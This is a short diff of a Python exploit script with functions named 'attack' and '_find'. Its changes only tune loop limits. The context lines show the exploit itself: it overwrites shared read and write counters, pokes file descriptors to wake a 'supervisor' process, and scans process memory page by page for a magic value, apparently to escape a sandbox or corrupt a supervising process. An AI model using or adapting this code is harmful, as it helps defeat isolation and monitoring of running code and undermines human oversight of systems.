@@ -16,7 +16,7 @@ def attack(arena):
         at += 1
     written.value = at + arena["skip_written"] & 2**64 - 1
     to_cell_read.value = to_cell_read.value + arena["skip_read"] & 2**64 - 1
-    for _ in range(50):
+    for _ in range(10):
         for fd in range(3, 64):  # one of them wakes the supervisor
             try:
                 os.set_blocking(fd, False)
@@ -41,7 +41,7 @@ def _find(magic):
     for anchor in anchors:
         for direction in (-1, 1):
             at, gaps = anchor & -mmap.PAGESIZE, 0
-            while gaps < 1 << 15 and at > 0:
+            while gaps < 1 << 12 and at > 0:
                 if libc.write(out_of, at, 8) != 8:
                     gaps += 1
                 elif int.from_bytes(os.read(into, 8), "little") & 0xFFFF_FFFF == magic:
